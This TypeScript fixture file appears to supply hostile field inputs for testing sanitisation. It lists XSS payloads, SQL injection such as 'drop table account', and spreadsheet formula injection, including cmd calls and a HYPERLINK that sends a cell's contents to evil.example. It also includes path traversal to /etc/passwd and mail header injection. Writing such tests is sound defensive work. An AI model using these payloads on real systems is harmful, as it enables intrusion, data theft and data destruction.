/**
 * What people and programs have typed into fields to break what shows, stores or passes them on. `hit` on a page's
 * window says that one of them ran.
 */
export const hostileTexts: Record<string, string> = {
  'a script': '<script>window.hit=1</script>',
  'a script that leaves its place': '</title></textarea></style></script><script>window.hit=1</script>',
  'a script after a quote': '"\'`><script>window.hit=1</script>',
  'a handler': '<img src=x onerror="window.hit=1">',
  'a handler without a tag of its own': '" autofocus onfocus="window.hit=1" x="',
  'a handler in a drawing': '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  'a frame': '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  'a comment that never ends': '<!-- <img src=x onerror=window.hit=1> ',
  'an entity': '&lt;script&gt;window.hit=1&lt;/script&gt; &amp; &#x3c;',
  'a javascript address': 'javascript:window.hit=1',
  'a javascript address in disguise': '\u0001 JaVa\tScRiPt:window.hit=1',
  'a data address': 'data:text/html,<script>window.hit=1</script>',
  'a vbscript address': 'vbscript:window.hit=1',
  'an address without a scheme': '//evil.example/x',
  'an address with a backslash': '/\\evil.example',
  'an address with a sign-in': 'https://cairn.example@evil.example/',
  'a template of braces': '{{constructor.constructor("window.hit=1")()}}',
  'a template of dollars': '$' + '{window.hit=1}#{7*7}<%= 7*7 %>',
  'a node in JSON': '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x>"}}}',
  'the name of a prototype': '__proto__',
  'the name of a constructor': 'constructor',
  'a method of everything': 'toString',
  SQL: `'; drop table account; --`,
  'SQL after a backslash': "\\'; select pg_sleep(9); --",
  'a wildcard of SQL': '%_\\%',
  'a placeholder of SQL': '$1 ? :name',
  'the null of copy': '\\N\t\\.',
  'a formula': '=HYPERLINK("https://evil.example?x="&A1,"click")',
  'a formula of plus': "+1+cmd|' /C calc'!A0",
  'a formula of minus': "-2+3+cmd|' /C calc'!A0",
  'a formula of at': "@SUM(1+1)*cmd|' /C calc'!A0",
  'a formula in full width': '＝1+1',
  'a formula after a tab': '\t=1+1',
  'a formula after a line': 'ok\n=1+1',
  'a formula after a separator': 'ok;=1+1;"x"',
  'a quote that never ends': '"a,b',
  'a header of mail': 'Ann\r\nBcc: victim@evil.example\r\n\r\nhello',
  'a line of a log': 'ok"}\n{"level":60,"msg":"all is lost"}',
  'a mention': '<!channel> <@U123> <https://evil.example|click>',
  'marks of bold': '*a* _b_ ~c~ `d`',
  'colours of a terminal': '\u001b[31mred\u001b[2J\u0007',
  'control characters': '\u0001\u0002\b\u000b\u000c\u007f\u0085',
  'a text from right to left': 'abc \u202egpj.exe\u202c \u2067שלום\u2069',
  'a direction that never ends': '\u202e\u2066evil',
  'invisible letters': 'a\u200b\u200d\u2060\ufeffb\u00ad',
  'line separators': 'a\u2028b\u2029c',
  'marks upon marks': `Z${'\u0301\u0323\u0336'.repeat(60)}`,
  'letters beyond the first plane': '𠮷野家 👩‍👩‍👧‍👦 🇨🇳',
  'a path': '../../../etc/passwd',
  'an encoded path': '%2e%2e%2f%00%0d%0a',
  'a very long word': 'W'.repeat(1_000),
  'a very long text': `${'long '.repeat(199)}end`,
  blank: ' \t\u00a0\u3000 ',
};

/** Texts that no database stores as they are: mended where a host app's words are told, refused where an id is. */
export const unstorableTexts: Record<string, string> = {
  'a NUL': 'a\0b',
  'half a pair': 'a\ud83db',
  'the other half of a pair': '\ude00',
};

/** As it is kept where it is mended. */
export const mended = (text: string): string => text.toWellFormed().replaceAll('\0', '');
